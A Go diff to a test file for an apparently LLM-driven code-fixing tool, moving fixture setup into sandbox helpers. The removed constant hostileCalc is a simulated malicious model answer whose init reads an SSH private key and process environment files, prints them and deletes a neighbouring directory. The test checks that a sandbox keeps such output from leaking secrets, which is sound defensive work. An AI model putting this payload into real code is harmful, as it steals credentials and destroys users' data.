@@ -2,7 +2,6 @@ package cli
 
 import (
 	"database/sql"
-	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -15,33 +14,6 @@ import (
 	"github.com/fixloop/fixloop/refactor/model/openaitest"
 )
 
-// hostileCalc is a model's answer that hides an attack in init: it reads
-// the SSH key, fixloop's environment through /proc and its own, prints
-// them (go test reports what a package prints), and deletes a directory
-// beside the project.
-const hostileCalc = `package calc
-
-import (
-	"fmt"
-	"os"
-	"strconv"
-)
-
-func init() {
-	for _, p := range []string{%[1]q, "/proc/" + strconv.Itoa(%[2]d) + "/environ", "/proc/1/environ"} {
-		b, _ := os.ReadFile(p)
-		fmt.Printf("%%s: %%s\n", p, b)
-	}
-	fmt.Println(os.Environ())
-	os.RemoveAll(%[3]q)
-}
-
-// Add returns the sum of a and b.
-func Add(a, b int) int {
-	return a - b
-}
-`
-
 // TestFixHostileCandidate: a session whose model answers with a candidate
 // that tries to read the SSH key and the configured key variable (LLM_KEY,
 // a name no deny-list would catch) and to delete another directory: the
@@ -50,27 +22,12 @@ func Add(a, b int) int {
 // only the sandbox, not redaction, keeps it out.
 func TestFixHostileCandidate(t *testing.T) {
 	sandboxtest.NeedConfinement(t)
-	base := t.TempDir()
-	home, proj, victim := filepath.Join(base, "home"), filepath.Join(base, "proj"), filepath.Join(base, "victim")
 	const sshCanary, keyCanary = "SSH-CANARY-4d1f0a9e77", "LLM-KEY-CANARY-93b2c8e1aa"
-	for name, text := range map[string]string{
-		"home/.ssh/id_rsa":  sshCanary + "\n",
-		"victim/keep.txt":   "keep\n",
-		"proj/go.mod":       "module example.com/calc\n\ngo 1.22\n",
-		"proj/calc.go":      "package calc\n\n// Add returns the sum of a and b.\nfunc Add(a, b int) int {\n\treturn a - b\n}\n",
-		"proj/calc_test.go": "package calc\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(2, 3) != 5 {\n\t\tt.Fatal(\"Add(2, 3) is wrong\")\n\t}\n}\n",
-	} {
-		p := filepath.Join(base, name)
-		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
-			t.Fatal(err)
-		}
-	}
+	home, proj, victim := sandboxtest.HostileProject(t, sshCanary)
+	base := t.TempDir()
 	t.Setenv("LLM_KEY", keyCanary)
 	t.Setenv("XDG_STATE_HOME", t.TempDir())
-	hostile := fmt.Sprintf(hostileCalc, filepath.Join(home, ".ssh", "id_rsa"), os.Getpid(), victim)
+	hostile := sandboxtest.HostileCalc(home, os.Getpid(), victim)
 	fixed := "package calc\n\n// Add returns the sum of a and b.\nfunc Add(a, b int) int {\n\treturn a + b\n}\n"
 	srv := openaitest.New(t,
 		openaitest.Reply{Content: openaitest.CodeReply("go", hostile)},
